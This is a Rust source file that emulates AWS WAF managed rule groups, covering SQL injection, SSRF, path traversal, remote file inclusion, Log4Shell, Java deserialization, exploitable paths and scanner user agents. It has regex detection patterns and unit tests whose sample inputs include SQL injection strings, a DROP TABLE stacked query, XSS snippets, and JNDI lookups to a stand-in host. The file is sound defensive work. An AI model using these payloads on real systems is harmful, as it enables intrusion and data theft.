//! AWS Managed Rules rule groups, with AWS's own rule names and the
//! components and limits AWS documents for each rule
//! (docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
//! and aws-managed-rule-groups-use-case.html). AWS does not publish its
//! patterns: SQL injection and cross-site scripting rules run on
//! libinjection ([`super::statement::is_sqli`], [`super::statement::is_xss`]);
//! size rules are size constraints with AWS's published limits; the other
//! rules (SSRF to the instance metadata address, path traversal, remote file
//! inclusion, Log4Shell lookups, Java serialized objects, exploitable paths,
//! scanner user agents) are regular expressions over the decoded component,
//! written here from the attack each rule names.

use super::field::{Field, Oversize, Scope};
use super::statement::{Comparison, Pattern, Positional, Sensitivity, Statement};
use super::transform::Transform::{self, HtmlEntityDecode, Lowercase, UrlDecode};
use std::sync::OnceLock;

/// A rule inside a managed group; every rule of these groups blocks.
pub struct ManagedRule {
    pub name: &'static str,
    pub statement: Statement,
}

impl ManagedRule {
    /// The last part of the label AWS adds when this rule matches. AWS
    /// spells labels in mixed case (`SQLi_BODY` labels `SQLi_Body`) and
    /// renames three of them; the baseline and use-case rule group pages
    /// of the AWS WAF developer guide list each rule with its label.
    pub fn label(&self) -> String {
        match self.name {
            "UserAgent_BadBots_HEADER" => return "BadBots_Header".into(),
            "Host_localhost_HEADER" => return "Host_Localhost_Header".into(),
            "PROPFIND_METHOD" => return "Propfind_Method".into(),
            _ => {}
        }
        const PARTS: [(&str, &str); 7] = [
            ("_HEADER", "_Header"),
            ("_BODY", "_Body"),
            ("_URIPATH", "_URIPath"),
            ("_QUERYARGUMENTS", "_QueryArguments"),
            ("_QUERYSTRING", "_QueryString"),
            ("_COOKIE", "_Cookie"),
            ("_METHOD", "_Method"),
        ];
        PARTS
            .iter()
            .find_map(|(upper, mixed)| {
                self.name
                    .strip_suffix(upper)
                    .map(|stem| format!("{stem}{mixed}"))
            })
            .unwrap_or_else(|| self.name.to_string())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub enum ManagedGroup {
    #[serde(rename = "AWSManagedRulesSQLiRuleSet")]
    Sqli,
    #[serde(rename = "AWSManagedRulesCommonRuleSet")]
    Common,
    #[serde(rename = "AWSManagedRulesKnownBadInputsRuleSet")]
    KnownBadInputs,
}

impl ManagedGroup {
    pub const ALL: [ManagedGroup; 3] = [
        ManagedGroup::Sqli,
        ManagedGroup::Common,
        ManagedGroup::KnownBadInputs,
    ];

    pub fn name(self) -> &'static str {
        match self {
            ManagedGroup::Sqli => "AWSManagedRulesSQLiRuleSet",
            ManagedGroup::Common => "AWSManagedRulesCommonRuleSet",
            ManagedGroup::KnownBadInputs => "AWSManagedRulesKnownBadInputsRuleSet",
        }
    }

    pub fn parse(s: &str) -> Option<ManagedGroup> {
        Self::ALL.into_iter().find(|g| g.name() == s)
    }

    /// The label namespace AWS gives the group's matches.
    pub fn label_namespace(self) -> &'static str {
        match self {
            ManagedGroup::Sqli => "awswaf:managed:aws:sql-database",
            ManagedGroup::Common => "awswaf:managed:aws:core-rule-set",
            ManagedGroup::KnownBadInputs => "awswaf:managed:aws:known-bad-inputs",
        }
    }

    /// The group's rules in evaluation order, built once per process.
    pub fn rules(self) -> &'static [ManagedRule] {
        static SQLI: OnceLock<Vec<ManagedRule>> = OnceLock::new();
        static COMMON: OnceLock<Vec<ManagedRule>> = OnceLock::new();
        static BAD: OnceLock<Vec<ManagedRule>> = OnceLock::new();
        match self {
            ManagedGroup::Sqli => SQLI.get_or_init(sqli_rules),
            ManagedGroup::Common => COMMON.get_or_init(common_rules),
            ManagedGroup::KnownBadInputs => BAD.get_or_init(known_bad_inputs_rules),
        }
    }

    pub fn rule_names(self) -> Vec<&'static str> {
        self.rules().iter().map(|r| r.name).collect()
    }
}

const DECODE: &[Transform] = &[UrlDecode, HtmlEntityDecode];
const DECODE_LOWER: &[Transform] = &[UrlDecode, HtmlEntityDecode, Lowercase];

fn body() -> Field {
    Field::Body {
        oversize: Oversize::Continue,
    }
}

fn json_values() -> Field {
    Field::JsonBody {
        scope: Scope::Value,
        oversize: Oversize::Continue,
        invalid: super::field::InvalidJson::NoMatch,
    }
}

fn cookie() -> Field {
    Field::Header {
        name: "cookie".into(),
    }
}

fn or(statements: Vec<Statement>) -> Statement {
    Statement::Or { statements }
}

fn sqli(field: Field, t: &[Transform]) -> Statement {
    Statement::SqliMatch {
        field,
        transforms: t.to_vec(),
        // LOW: AWS's default, and the only level before levels existed
        // (2022), when this group's rules were already there.
        sensitivity: Sensitivity::Low,
    }
}

fn xss(field: Field, t: &[Transform]) -> Statement {
    Statement::XssMatch {
        field,
        transforms: t.to_vec(),
    }
}

fn re(field: Field, t: &[Transform], pattern: &str) -> Statement {
    Statement::RegexMatch {
        field,
        pattern: Pattern::checked(pattern.to_string()),
        transforms: t.to_vec(),
    }
}

fn larger(field: Field, size: u64) -> Statement {
    Statement::SizeConstraint {
        field,
        comparison: Comparison::Gt,
        size,
        transforms: vec![],
    }
}

fn rule(name: &'static str, statement: Statement) -> ManagedRule {
    ManagedRule { name, statement }
}

/// SQL that libinjection's fingerprints leave to a second look: time
/// delays, stacked queries, schema discovery, file access, error-based
/// extraction, UNION-based reads, strings built from character codes
/// (`CHAR(113)||CHR(120)`), casts to a type and `SELECT CASE WHEN`
/// conditionals (the shape of blind and error-based extraction through
/// functions libinjection does not know). A stacked query is a statement
/// after `;` in SQL's own grammar (`DROP TABLE`, `DELETE FROM`, `INSERT
/// INTO`, `UPDATE t SET`, `SHUTDOWN`, `EXEC` of a system procedure, a
/// variable or a string): the verb alone is an English word too
/// (`…; update the list`, `…; exec summary`). Two patterns: AWS caps one
/// at 512 characters.
const SQL_EXTENDED: [&str; 2] = [
    r"(?i)(\bunion\b[\s\S]{0,40}?\bselect\b|\b(n?char|chr)\s*\(\s*\d+\s*\)|\bcast\s*\([\s\S]{1,300}?\bas\s+(int|integer|signed|unsigned|n?char|n?varchar|text|numeric|decimal)\b|\bselect\s+case\s+when\b|\b(sleep|benchmark|pg_sleep|extractvalue|updatexml|load_file|utl_inaddr\.get_host_address|dbms_pipe\.receive_message)\s*\(|\bwaitfor\s+(delay|time)\b|\binformation_schema\b|\binto\s+(out|dump)file\b|\bxp_cmdshell\b)",
    r"(?i)(;\s*(drop\s+(table|database|schema|view|procedure|function|user|index|trigger)\b|delete\s+from\b|insert\s+into\b|update\s+[\w.\[\]`]+\s+set\b|shutdown\s*(;|--|#|/\*|with\s+nowait|$)|exec(ute)?\s*(\(|@|'|master\.|xp_|sp_))|'\s*(or|and)\s+['\d\w]+\s*(=|like|<|>))",
];

fn extended(field: Field, t: &[Transform]) -> Statement {
    or(SQL_EXTENDED
        .iter()
        .map(|p| re(field.clone(), t, p))
        .collect())
}

fn sqli_rules() -> Vec<ManagedRule> {
    vec![
        rule("SQLi_QUERYARGUMENTS", sqli(Field::AllQueryArgs, DECODE)),
        rule(
            "SQLiExtendedPatterns_QUERYARGUMENTS",
            extended(Field::AllQueryArgs, DECODE),
        ),
        rule(
            "SQLi_BODY",
            or(vec![
                sqli(body(), DECODE),
                sqli(json_values(), &[HtmlEntityDecode]),
            ]),
        ),
        rule(
            "SQLiExtendedPatterns_BODY",
            or(vec![extended(body(), DECODE), extended(json_values(), &[])]),
        ),
        rule(
            "SQLi_COOKIE",
            sqli(
                Field::Cookies {
                    scope: Scope::Value,
                },
                DECODE,
            ),
        ),
        rule("SQLi_URIPATH", sqli(Field::UriPath, &[UrlDecode])),
    ]
}

const SSRF: &str = r"(?i)(169\.254\.169\.254|\b2852039166\b|0xa9\.?0?xfe\.?0?xa9\.?0?xfe|0xa9fea9fe|\[?fd00:ec2::254\]?|instance-data\b)";
const LFI: &str = r"(?i)(\.\.[/\\]|[/\\]\.\.\b|/etc/(passwd|shadow|hosts)\b|\bboot\.ini\b|\bwin\.ini\b|/proc/self/)";
const RFI: &str = r"(?i)\b(https?|ftps?|php|file|data|expect|gopher)://\[?(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[0-9a-f:]+:[0-9a-f:]+)";
const RESTRICTED_EXT: &str = r"(?i)\.(log|ini|bak|backup|old|orig|cfg|conf|config|sql|swp|save|tmp|dist|inc|htaccess|htpasswd)$";
const BAD_BOTS: &str = r"(?i)(nessus|nmap|nikto|masscan|zgrab|sqlmap|acunetix|netsparker|dirbuster|w3af|havij|openvas)";

fn common_rules() -> Vec<ManagedRule> {
    let qa = Field::AllQueryArgs;
    vec![
        rule(
            "NoUserAgent_HEADER",
            Statement::Not {
                statement: Box::new(larger(
                    Field::Header {
                        name: "user-agent".into(),
                    },
                    0,
                )),
            },
        ),
        rule(
            "UserAgent_BadBots_HEADER",
            re(
                Field::Header {
                    name: "user-agent".into(),
                },
                &[],
                BAD_BOTS,
            ),
        ),
        rule(
            "SizeRestrictions_QUERYSTRING",
            larger(Field::QueryString, 2048),
        ),
        rule("SizeRestrictions_Cookie_HEADER", larger(cookie(), 10240)),
        rule(
            "SizeRestrictions_BODY",
            larger(
                Field::Body {
                    oversize: Oversize::Match,
                },
                8192,
            ),
        ),
        rule("SizeRestrictions_URIPATH", larger(Field::UriPath, 1024)),
        rule("EC2MetaDataSSRF_BODY", re(body(), DECODE, SSRF)),
        rule("EC2MetaDataSSRF_COOKIE", re(cookie(), DECODE, SSRF)),
        rule("EC2MetaDataSSRF_URIPATH", re(Field::UriPath, DECODE, SSRF)),
        rule(
            "EC2MetaDataSSRF_QUERYARGUMENTS",
            re(qa.clone(), DECODE, SSRF),
        ),
        rule("GenericLFI_QUERYARGUMENTS", re(qa.clone(), DECODE, LFI)),
        rule("GenericLFI_URIPATH", re(Field::UriPath, DECODE, LFI)),
        rule("GenericLFI_BODY", re(body(), DECODE, LFI)),
        rule(
            "RestrictedExtensions_URIPATH",
            re(Field::UriPath, DECODE, RESTRICTED_EXT),
        ),
        rule(
            "RestrictedExtensions_QUERYARGUMENTS",
            re(qa.clone(), DECODE, RESTRICTED_EXT),
        ),
        rule("GenericRFI_QUERYARGUMENTS", re(qa.clone(), DECODE, RFI)),
        rule("GenericRFI_BODY", re(body(), DECODE, RFI)),
        rule("GenericRFI_URIPATH", re(Field::UriPath, DECODE, RFI)),
        rule(
            "CrossSiteScripting_COOKIE",
            xss(
                Field::Cookies {
                    scope: Scope::Value,
                },
                DECODE,
            ),
        ),
        rule("CrossSiteScripting_QUERYARGUMENTS", xss(qa, DECODE)),
        rule(
            "CrossSiteScripting_BODY",
            or(vec![
                xss(body(), DECODE),
                xss(json_values(), &[HtmlEntityDecode]),
            ]),
        ),
        rule("CrossSiteScripting_URIPATH", xss(Field::UriPath, DECODE)),
    ]
}

const JAVA_DESER: &str = r"(?i)(rO0AB|\baced0005|java\.lang\.(Runtime|ProcessBuilder)|javax\.management\.|org\.apache\.commons\.collections\.functors|ysoserial|\bClassLoader\b.{0,40}\bdefineClass)";
/// `${jndi:…}` and the nested-lookup spellings that hide it
/// (`${${lower:j}ndi:…}`, `${::-j}`, `${env:…}`).
const LOG4J: &str =
    r"(?i)\$\{[^}]{0,40}?(jndi|\$\{|::-|lower:|upper:|env:|sys:|date:|base64:|java:|main:)";
const EXPLOITABLE_PATHS: &str = r"(?i)(/web-inf\b|/meta-inf\b|/\.git/|/\.svn/|/\.env\b|/\.aws/|/\.ssh/|/cgi-bin/.*\.(sh|pl|cgi)\b|/phpunit/.*eval-stdin|/actuator/(env|heapdump|jolokia)\b|/jmx-console\b|/invoker/)";

fn known_bad_inputs_rules() -> Vec<ManagedRule> {
    let headers = Field::AllHeaders { scope: Scope::All };
    vec![
        rule(
            "JavaDeserializationRCE_HEADER",
            re(headers.clone(), DECODE, JAVA_DESER),
        ),
        rule(
            "JavaDeserializationRCE_BODY",
            re(body(), DECODE, JAVA_DESER),
        ),
        rule(
            "JavaDeserializationRCE_URIPATH",
            re(Field::UriPath, DECODE, JAVA_DESER),
        ),
        rule(
            "JavaDeserializationRCE_QUERYSTRING",
            re(Field::QueryString, DECODE, JAVA_DESER),
        ),
        rule(
            "Host_localhost_HEADER",
            re(
                Field::Header {
                    name: "host".into(),
                },
                &[Lowercase],
                r"^(localhost|127(\.\d{1,3}){3}|\[?::1\]?|0\.0\.0\.0)(:\d+)?$",
            ),
        ),
        rule(
            "PROPFIND_METHOD",
            Statement::ByteMatch {
                field: Field::Method,
                positional: Positional::Exactly,
                value: "PROPFIND".into(),
                transforms: vec![],
            },
        ),
        rule(
            "ExploitablePaths_URIPATH",
            re(Field::UriPath, DECODE_LOWER, EXPLOITABLE_PATHS),
        ),
        rule("Log4JRCE_HEADER", re(headers, DECODE, LOG4J)),
        rule(
            "Log4JRCE_QUERYSTRING",
            re(Field::QueryString, DECODE, LOG4J),
        ),
        rule("Log4JRCE_BODY", re(body(), DECODE, LOG4J)),
        rule("Log4JRCE_URIPATH", re(Field::UriPath, DECODE, LOG4J)),
    ]
}

#[cfg(test)]
mod tests {
    use super::super::field::tests::request;
    use super::*;

    /// The first rule of `g` that matches.
    fn first(g: ManagedGroup, r: &super::super::field::WafRequest<'_>) -> Option<&'static str> {
        g.rules()
            .iter()
            .find(|x| x.statement.eval(r).is_some())
            .map(|x| x.name)
    }

    const UA: (&str, &str) = (
        "User-Agent",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    );

    #[test]
    fn every_managed_pattern_compiles() {
        // Managed patterns are compiled when first matched, not checked
        // when a plan is made: this is their check.
        fn walk(s: &Statement, n: &mut usize) {
            match s {
                Statement::RegexMatch { pattern, .. } => {
                    *n += 1;
                    regex::bytes::Regex::new(pattern.as_str()).unwrap();
                }
                Statement::And { statements } | Statement::Or { statements } => {
                    statements.iter().for_each(|s| walk(s, n))
                }
                Statement::Not { statement } => walk(statement, n),
                _ => {}
            }
        }
        let mut n = 0;
        for g in ManagedGroup::ALL {
            g.rules().iter().for_each(|r| walk(&r.statement, &mut n));
        }
        assert!(n > 10, "only {n} patterns found");
    }

    #[test]
    fn sqli_group() {
        let g = ManagedGroup::Sqli;
        let get = |t: &str| request("GET", t, &[UA], "");
        assert_eq!(
            first(g, &get("/?id=1%27%20or%20%271%27=%271")),
            Some("SQLi_QUERYARGUMENTS")
        );
        assert!(first(g, &get("/?id=1;waitfor delay '0:0:5'")).is_some());
        // Stacked queries in SQL's grammar; the same verbs in prose pass.
        for q in [
            "1;%20DROP%20TABLE%20users",
            "1;%20exec%20master..xp_dirtree%20'//x/y'",
            "1;exec('sel'%2B'ect%201')",
            "1;%20update%20users%20set%20admin=1",
            "1;%20shutdown",
        ] {
            assert!(first(g, &get(&format!("/?id={q}"))).is_some(), "{q}");
        }
        for q in [
            "step%201;%20update%20the%20list",
            "Q3%20results;%20exec%20summary%20attached",
        ] {
            assert_eq!(first(g, &get(&format!("/?q={q}"))), None, "{q}");
        }
        let post = |b: &str| request("POST", "/api/v1/recommendation", &[UA], b);
        assert_eq!(first(g, &post("user=admin%27--&pass=x")), Some("SQLi_BODY"));
        assert_eq!(
            first(g, &post(r#"{"user_id": "1 OR 1=1"}"#)),
            Some("SQLi_BODY")
        );
        assert_eq!(first(g, &post(r#"{"user_id": "42"}"#)), None);
        let c = request("GET", "/", &[UA, ("Cookie", "sid=1' or '1'='1")], "");
        assert_eq!(first(g, &c), Some("SQLi_COOKIE"));
        assert_eq!(
            first(g, &get("/items/1'%20union%20select%201,2--")),
            Some("SQLi_URIPATH")
        );
        assert_eq!(first(g, &get("/search?q=how+to+select+a+union+rep")), None);
    }

    #[test]
    fn common_group() {
        let g = ManagedGroup::Common;
        assert_eq!(
            first(g, &request("GET", "/", &[], "")),
            Some("NoUserAgent_HEADER")
        );
        let ua = |v| request("GET", "/", &[("User-Agent", v)], "");
        assert_eq!(
            first(g, &ua("sqlmap/1.8 (https://sqlmap.org)")),
            Some("UserAgent_BadBots_HEADER")
        );
        assert_eq!(first(g, &ua(UA.1)), None);
        let get = |t: &str| request("GET", t, &[UA], "");
        assert_eq!(
            first(g, &get(&format!("/?q={}", "a".repeat(2049)))),
            Some("SizeRestrictions_QUERYSTRING")
        );
        assert_eq!(
            first(g, &get(&format!("/{}", "a".repeat(1024)))),
            Some("SizeRestrictions_URIPATH")
        );
        let big = request("POST", "/", &[UA], &"a".repeat(9000));
        assert_eq!(first(g, &big), Some("SizeRestrictions_BODY"));
        let cookie = request("GET", "/", &[UA, ("Cookie", &"c".repeat(10241))], "");
        assert_eq!(first(g, &cookie), Some("SizeRestrictions_Cookie_HEADER"));
        let post = |b: &str| request("POST", "/", &[UA], b);
        assert_eq!(
            first(g, &post("url=http://169.254.169.254/latest/meta-data/")),
            Some("EC2MetaDataSSRF_BODY")
        );
        assert_eq!(
            first(g, &get("/?u=http%3A%2F%2F169.254.169.254%2F")),
            Some("EC2MetaDataSSRF_QUERYARGUMENTS")
        );
        assert_eq!(
            first(g, &get("/?file=..%2F..%2Fetc%2Fpasswd")),
            Some("GenericLFI_QUERYARGUMENTS")
        );
        assert_eq!(
            first(g, &get("/static/..%2f..%2fsecret")),
            Some("GenericLFI_URIPATH")
        );
        assert_eq!(
            first(g, &get("/backup.sql")),
            Some("RestrictedExtensions_URIPATH")
        );
        assert_eq!(
            first(g, &get("/?page=http://198.51.100.9/shell.txt")),
            Some("GenericRFI_QUERYARGUMENTS")
        );
        assert_eq!(
            first(g, &get("/?q=%3Cscript%3Ealert(1)%3C/script%3E")),
            Some("CrossSiteScripting_QUERYARGUMENTS")
        );
        assert_eq!(
            first(g, &post(r#"{"comment": "<img src=x onerror=alert(1)>"}"#)),
            Some("CrossSiteScripting_BODY")
        );
        let c = request(
            "GET",
            "/",
            &[UA, ("Cookie", "pref=<script>alert(1)</script>")],
            "",
        );
        assert_eq!(first(g, &c), Some("CrossSiteScripting_COOKIE"));
        assert_eq!(
            first(g, &get("/<script>alert(1)</script>")),
            Some("CrossSiteScripting_URIPATH")
        );
        assert_eq!(first(g, &get("/api/v1/health?x=1&y=two")), None);
    }

    #[test]
    fn known_bad_inputs_group() {
        let g = ManagedGroup::KnownBadInputs;
        let h = |k, v| request("GET", "/", &[UA, (k, v)], "");
        assert_eq!(
            first(g, &h("X-Api-Version", "${jndi:ldap://198.51.100.9/a}")),
            Some("Log4JRCE_HEADER")
        );
        assert_eq!(
            first(g, &h("X-A", "${${lower:j}ndi:ldap://x/a}")),
            Some("Log4JRCE_HEADER")
        );
        assert_eq!(
            first(g, &h("Host", "localhost:80")),
            Some("Host_localhost_HEADER")
        );
        assert_eq!(
            first(g, &h("Host", "my-alb-1.us-east-1.elb.amazonaws.com")),
            None
        );
        assert_eq!(
            first(g, &h("X-Obj", "rO0ABXNyABFqYXZh")),
            Some("JavaDeserializationRCE_HEADER")
        );
        assert_eq!(
            first(g, &request("PROPFIND", "/", &[UA], "")),
            Some("PROPFIND_METHOD")
        );
        assert_eq!(
            first(g, &request("GET", "/WEB-INF/web.xml", &[UA], "")),
            Some("ExploitablePaths_URIPATH")
        );
        assert_eq!(
            first(
                g,
                &request("GET", "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", &[UA], "")
            ),
            Some("Log4JRCE_QUERYSTRING")
        );
        assert_eq!(
            first(g, &request("POST", "/", &[UA], "a=${jndi:rmi://x/y}")),
            Some("Log4JRCE_BODY")
        );
        assert_eq!(
            first(g, &request("GET", "/price/${jndi:dns://x}", &[UA], "")),
            Some("Log4JRCE_URIPATH")
        );
        assert_eq!(
            first(g, &request("GET", "/index.html?a=${user}", &[UA], "")),
            None
        );
    }

    #[test]
    fn names_are_awss() {
        assert_eq!(
            ManagedGroup::parse("AWSManagedRulesSQLiRuleSet"),
            Some(ManagedGroup::Sqli)
        );
        assert_eq!(ManagedGroup::parse("AWSManagedRulesSQLiRuleset"), None);
        for g in ManagedGroup::ALL {
            let names = g.rule_names();
            let mut dedup = names.clone();
            dedup.sort();
            dedup.dedup();
            assert_eq!(dedup.len(), names.len(), "{}", g.name());
        }
        assert!(ManagedGroup::Common
            .rule_names()
            .contains(&"SizeRestrictions_BODY"));
    }

    /// Every rule's label as the AWS WAF developer guide lists it (baseline
    /// rule groups: CRS and known bad inputs; use-case rule groups: SQL
    /// database), so a label condition copied from AWS matches here.
    #[test]
    fn labels_are_the_ones_aws_documents() {
        let documented = [
            "sql-database:SQLi_QueryArguments",
            "sql-database:SQLiExtendedPatterns_QueryArguments",
            "sql-database:SQLi_Body",
            "sql-database:SQLiExtendedPatterns_Body",
            "sql-database:SQLi_Cookie",
            "sql-database:SQLi_URIPath",
            "core-rule-set:NoUserAgent_Header",
            "core-rule-set:BadBots_Header",
            "core-rule-set:SizeRestrictions_QueryString",
            "core-rule-set:SizeRestrictions_Cookie_Header",
            "core-rule-set:SizeRestrictions_Body",
            "core-rule-set:SizeRestrictions_URIPath",
            "core-rule-set:EC2MetaDataSSRF_Body",
            "core-rule-set:EC2MetaDataSSRF_Cookie",
            "core-rule-set:EC2MetaDataSSRF_URIPath",
            "core-rule-set:EC2MetaDataSSRF_QueryArguments",
            "core-rule-set:GenericLFI_QueryArguments",
            "core-rule-set:GenericLFI_URIPath",
            "core-rule-set:GenericLFI_Body",
            "core-rule-set:RestrictedExtensions_URIPath",
            "core-rule-set:RestrictedExtensions_QueryArguments",
            "core-rule-set:GenericRFI_QueryArguments",
            "core-rule-set:GenericRFI_Body",
            "core-rule-set:GenericRFI_URIPath",
            "core-rule-set:CrossSiteScripting_Cookie",
            "core-rule-set:CrossSiteScripting_QueryArguments",
            "core-rule-set:CrossSiteScripting_Body",
            "core-rule-set:CrossSiteScripting_URIPath",
            "known-bad-inputs:JavaDeserializationRCE_Header",
            "known-bad-inputs:JavaDeserializationRCE_Body",
            "known-bad-inputs:JavaDeserializationRCE_URIPath",
            "known-bad-inputs:JavaDeserializationRCE_QueryString",
            "known-bad-inputs:Host_Localhost_Header",
            "known-bad-inputs:Propfind_Method",
            "known-bad-inputs:ExploitablePaths_URIPath",
            "known-bad-inputs:Log4JRCE_Header",
            "known-bad-inputs:Log4JRCE_QueryString",
            "known-bad-inputs:Log4JRCE_Body",
            "known-bad-inputs:Log4JRCE_URIPath",
        ];
        let ours: Vec<String> = ManagedGroup::ALL
            .iter()
            .flat_map(|g| {
                g.rules()
                    .iter()
                    .map(move |r| format!("{}:{}", g.label_namespace(), r.label()))
            })
            .collect();
        for l in &ours {
            let l = l.strip_prefix("awswaf:managed:aws:").unwrap();
            assert!(documented.contains(&l), "{l} is not a label AWS documents");
        }
        assert_eq!(ours.len(), documented.len());
    }
}
